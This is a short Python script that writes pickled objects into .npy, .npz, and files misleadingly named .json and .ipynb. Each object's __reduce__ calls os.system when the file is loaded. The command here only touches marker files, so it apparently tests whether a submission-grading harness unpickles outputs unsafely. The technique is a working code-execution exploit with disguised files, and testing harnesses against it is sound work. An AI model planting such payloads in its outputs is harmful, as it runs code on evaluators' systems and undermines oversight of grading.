import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-a-submission-pickle; touch left-by-a-submission-pickle",)


names = ("validation-circles-m1-scores", "validation-circles-m1-labels", "hidden-circles-m1-scores",
         "plot-circles-m1-scores")
for name in names:
    np.save(f"/slot/out/{name}.npy", np.array([Payload()], dtype=object), allow_pickle=True)
np.savez("/slot/out/hidden-inputs.npz", circles=np.array([Payload()], dtype=object))
for name in ("evidence.json", "examination.json", "hidden.json", "executed.ipynb"):
    with open("/slot/out/" + name, "wb") as file:
        pickle.dump(Payload(), file)
print("saved")
